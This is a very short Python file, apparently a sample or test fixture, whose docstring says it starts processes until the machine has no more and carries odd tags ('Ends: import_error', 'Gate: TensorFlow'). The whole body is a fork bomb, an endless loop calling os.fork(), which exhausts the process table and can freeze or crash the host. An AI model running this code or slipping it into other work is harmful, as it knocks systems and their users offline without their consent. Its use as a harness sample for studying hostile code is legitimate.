"""Starts processes until the machine has no more.

Ends: import_error
Gate: TensorFlow
"""

import os

while True:
    os.fork()
